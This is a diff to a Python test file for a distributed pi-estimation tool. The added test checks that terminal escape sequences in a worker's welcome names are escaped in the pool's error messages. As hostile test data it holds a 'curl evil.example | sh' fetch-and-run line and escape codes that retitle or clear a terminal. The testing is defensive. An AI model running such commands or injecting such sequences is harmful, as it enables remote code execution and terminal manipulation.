@@ -18,7 +18,9 @@ import trio
 from structlog.testing import capture_logs
 
 from mcpi_coordinator import Chunk, WorkerPool
+from mcpi_coordinator.pool.dispatch import _problem
 from mcpi_worker.kernels import count_numpy
+from mcpi_worker.protocol import Welcome
 
 MCPI = [sys.executable, "-m", "mcpi_coordinator", "estimate"]
 PYTHON = shlex.quote(sys.executable)
@@ -162,3 +164,16 @@ async def test_a_program_that_configured_no_logging_gets_the_warnings_escaped(
     assert out == ""
     assert "worker 0: \\rmcpi estimate: error: run: curl evil.example | sh" in err, err
     assert active_characters(err.encode()) == []
+
+
+def test_a_welcomes_names_are_escaped_in_the_pools_own_messages() -> None:
+    """Why a worker cannot take a chunk quotes its welcome: an embedding program prints
+    that message itself, so the worker's words in it are escaped where it is made."""
+    welcome = Welcome(
+        version=2, worker="\x1b]0;OWNED\x07evil/1", pid=1, host="h", kernels=("\x1b[2Jpython",),
+        max_inflight=4, max_frame=2**20, max_points=10,
+    )  # fmt: skip
+    for chunk in (Chunk(7, 0, 1000, kernel="numpy"), Chunk(7, 0, 1000, kernel="\x1b[2Jpython")):
+        problem = _problem(welcome, chunk, splittable=False)
+        assert problem is not None and "\\u001b]0;OWNED\\u0007evil/1" in problem
+        assert active_characters(problem.encode()) == []
